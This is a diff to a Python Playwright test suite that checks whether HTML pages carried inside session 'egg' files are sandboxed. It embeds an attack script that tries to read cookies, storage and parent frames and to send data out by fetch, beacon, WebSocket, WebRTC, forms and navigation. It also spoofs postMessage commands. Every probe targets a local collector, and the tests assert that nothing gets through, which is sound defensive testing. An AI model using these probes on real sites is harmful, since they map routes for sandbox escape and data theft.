@@ -8,7 +8,8 @@ import os
 import shutil
 import socket
 import threading
-from collections.abc import Callable, Iterator
+import time
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -100,4 +101,181 @@ def test_replay_goes_on_as_a_live_session(browser: Browser, desk: RunningDaemon,
     expect(page.locator(".session-events")).to_contain_text("Branches from the session egg")
     expect(page.locator(".session-events")).to_contain_text("fake-llm: first words")
     expect(page.locator(".session-events")).not_to_contain_text("second words")
+    page.close()
+
+
+class Collector:
+    """Counts everything that reaches one TCP and one UDP port of this machine."""
+
+    def __init__(self) -> None:
+        self.came: list[str] = []
+        self._tcp = socket.create_server(("127.0.0.1", 0))
+        self.port = self._tcp.getsockname()[1]
+        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._udp.bind(("127.0.0.1", 0))
+        self.udp_port = self._udp.getsockname()[1]
+        for work in (self._take_tcp, self._take_udp):
+            threading.Thread(target=work, daemon=True).start()
+
+    def _take_tcp(self) -> None:
+        while True:
+            try:
+                line, _ = self._tcp.accept()
+            except OSError:
+                return
+            self.came.append("TCP")
+            line.close()
+
+    def _take_udp(self) -> None:
+        while True:
+            try:
+                self._udp.recv(2000)
+            except OSError:
+                return
+            self.came.append("UDP")
+
+    def close(self) -> None:
+        for one in (self._tcp, self._udp):
+            one.close()
+
+
+@pytest.fixture
+def collector() -> Iterator[Collector]:
+    made = Collector()
+    yield made
+    made.close()
+
+
+def cart(page: str, **more: Any) -> dict[str, Any]:
+    return {
+        "schema": "brainstem-egg/2.3-session",
+        "type": "session",
+        "title": "From elsewhere",
+        "participants": [{"rappid": "x", "role": "operator", "name": "Kody"}],
+        "runtime": {"type": "html", "sha256": hashlib.sha256(page.encode()).hexdigest(), "payload": page},
+        "transcript": [
+            {"event": n, "event_id": f"p:{n}", "kind": "operator_input", "ts": "2026-05-10T00:00:00Z", "by": "x",
+             "data": {"text": f"word {n}"}} for n in range(3)
+        ],
+        **more,
+    }  # fmt: skip
+
+
+ATTACK = r"""<!doctype html><pre id="out"></pre><script>
+const out = document.getElementById("out");
+const told = {};
+const tell = (name, words) => { told[name] = String(words).slice(0, 60); out.textContent = JSON.stringify(told); };
+const attempt = async (name, work) => {
+  try { tell(name, `REACHED ${await work()}`); } catch (error) { tell(name, `stopped: ${error.name ?? error}`); }
+};
+const picture = (src) => new Promise((resolve, reject) => {
+  const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error()); image.src = src;
+});
+const socket = (url) => new Promise((resolve, reject) => {
+  const line = new WebSocket(url); line.onopen = resolve; line.onerror = () => reject(new Error());
+});
+(async () => {
+  await attempt("parent", () => parent.document.title);
+  await attempt("top", () => top.location.href);
+  await attempt("storage", () => localStorage.length);
+  await attempt("database", () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(new Error()); }));
+  await attempt("cookie", () => document.cookie);
+  await attempt("daemon", () => fetch("http://127.0.0.1:DAEMON/health", {mode: "no-cors"}));
+  await attempt("own host", () => fetch("http://localhost:DAEMON/health", {mode: "no-cors"}));
+  await attempt("network", () => fetch("http://127.0.0.1:COLLECTOR/fetch", {mode: "no-cors"}));
+  navigator.sendBeacon("http://127.0.0.1:COLLECTOR/beacon");
+  await attempt("picture", () => picture("http://127.0.0.1:COLLECTOR/picture"));
+  await attempt("socket", () => socket("ws://127.0.0.1:COLLECTOR/socket"));
+  await attempt("module", () => import("http://127.0.0.1:COLLECTOR/module.js"));
+  await attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = yes; w.onerror = () => no(new Error()); }));
+  await attempt("window", () => { if (!open("http://127.0.0.1:COLLECTOR/window")) throw new Error(); });
+  await attempt("leaving", () => { top.location = "http://127.0.0.1:COLLECTOR/top"; });
+  const form = document.createElement("form"); form.action = "http://127.0.0.1:COLLECTOR/form"; document.body.append(form);
+  form.submit();
+  for (const [tag, key] of [["iframe", "src"], ["object", "data"], ["embed", "src"], ["video", "src"], ["audio", "src"]]) {
+    const made = document.createElement(tag); made[key] = `http://127.0.0.1:COLLECTOR/${tag}`; document.body.append(made);
+  }
+  for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "icon", "manifest"]) {
+    const link = document.createElement("link"); link.rel = rel; link.as = "script"; link.href = `http://127.0.0.1:COLLECTOR/${rel}`; document.head.append(link);
+  }
+  await (async () => {
+    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
+    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+  })().catch(() => undefined);
+  for (const kind of ["cart_ready", "cart_init", "chat_request", "cart_event", "operator_mic"])
+    parent.postMessage({kind, corr: 1, text: "run it", nonce: "guessed", transcript: []}, "*");
+  tell("end", "of it");
+})();
+</script>"""
+
+
+def test_page_of_an_egg_reaches_nothing(
+    browser: Browser, desk: RunningDaemon, tmp_path: Path, collector: Collector
+) -> None:
+    attack = ATTACK.replace("COLLECTOR", str(collector.port)).replace("DAEMON", str(desk.port))
+    attack = attack.replace("UDP", str(collector.udp_port))
+    egg = tmp_path / "attack.egg"
+    egg.write_text(json.dumps(cart(attack)))
+    page = opened(browser, desk, egg)
+    page.get_by_role("button", name="Show the page it brought").click()
+    out = frame_of(page).locator("#out")
+    expect(out).to_contain_text('"end"')
+    told: dict[str, str] = json.loads(out.text_content() or "{}")
+    reached = [name for name, words in told.items() if words.startswith("REACHED")]
+    assert (reached, collector.came) == ([], [])
+    assert page.url.startswith(f"http://127.0.0.1:{desk.port}/")
+    page.close()
+
+
+def test_frame_within_the_page_of_an_egg_reaches_nothing(
+    browser: Browser, desk: RunningDaemon, tmp_path: Path, collector: Collector
+) -> None:
+    script = f"""<script>const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{collector.udp_port}'}}]}});
+        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));</script>"""
+    egg = tmp_path / "nested.egg"
+    egg.write_text(json.dumps(cart(f'<!doctype html><iframe srcdoc="{script}"></iframe>')))
+    page = opened(browser, desk, egg)
+    with page.expect_response("**/own"):
+        page.get_by_role("button", name="Show the page it brought").click()
+    time.sleep(2)  # Chromium 156 may end the tab over it; nothing leaves it
+    assert collector.came == []
+    page.close()
+
+
+@pytest.mark.parametrize(
+    "leaves",
+    ["location = 'http://127.0.0.1:COLLECTOR/'", "location = 'http://localhost:DAEMON/health'",
+     "location = 'data:text/html,<p>elsewhere'"],
+)  # fmt: skip
+def test_page_of_an_egg_that_leaves_its_frame_is_closed_or_kept(
+    browser: Browser, desk: RunningDaemon, tmp_path: Path, collector: Collector, leaves: str
+) -> None:
+    script = leaves.replace("COLLECTOR", str(collector.port)).replace("DAEMON", str(desk.port))
+    egg = tmp_path / "leaves.egg"
+    egg.write_text(
+        json.dumps(cart(f"<!doctype html><p>begun</p><script>setTimeout(() => {{ {script} }}, 300)</script>"))
+    )
+    page = opened(browser, desk, egg)
+    page.get_by_role("button", name="Show the page it brought").click()
+    expect(page.get_by_text("The egg's page tried to go elsewhere; it was closed.")).to_be_visible()
+    assert collector.came == []
+    page.close()
+
+
+def test_page_of_an_egg_gets_its_transcript_up_to_the_scrubber(
+    browser: Browser, desk: RunningDaemon, tmp_path: Path
+) -> None:
+    shows = """<!doctype html><p id="out"></p><script>addEventListener("message", ({ data }) => {
+      out.textContent = data.transcript.map((one) => one.data.text).join();
+    }); parent.postMessage({ kind: "cart_ready" }, "*");</script>"""
+    egg = tmp_path / "shows.egg"
+    egg.write_text(json.dumps(cart(shows)))
+    page = opened(browser, desk, egg)
+    expect(page.get_by_text("Unpinned: it carries no hash of its transcript.")).to_be_visible()
+    expect(frame_of(page).locator(".events li:visible").last).to_have_text("Kodyword 2")
+    page.get_by_role("button", name="Show the page it brought").click()
+    expect(frame_of(page).locator("#out")).to_have_text("word 0,word 1,word 2")
+    page.get_by_role("slider", name="Event").press("Home")
+    expect(frame_of(page).locator("#out")).to_have_text("word 0")
     page.close()
